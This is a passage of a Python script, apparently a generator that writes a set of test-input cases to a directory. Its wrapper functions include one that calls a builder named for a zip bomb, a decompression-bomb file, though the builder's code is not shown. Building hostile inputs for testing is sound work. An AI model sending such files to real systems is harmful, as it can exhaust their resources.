    return offer(p, head=head, tweak=fmt)


def o_empty(p: Path) -> Path:
    return a01_empty(p)


def o_zip_bomb(p: Path) -> Path:
    return b12_zip_bomb(p)


def main(argv: Sequence[str]) -> int:
    from .cases import CASES, build_all

    if len(argv) != 1:
        print(__doc__)
        return 2
    out = Path(argv[0])
    out.mkdir(parents=True, exist_ok=True)
    paths = build_all(out)
    print(f"{len(paths)} of {len(CASES)} cases written to {out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
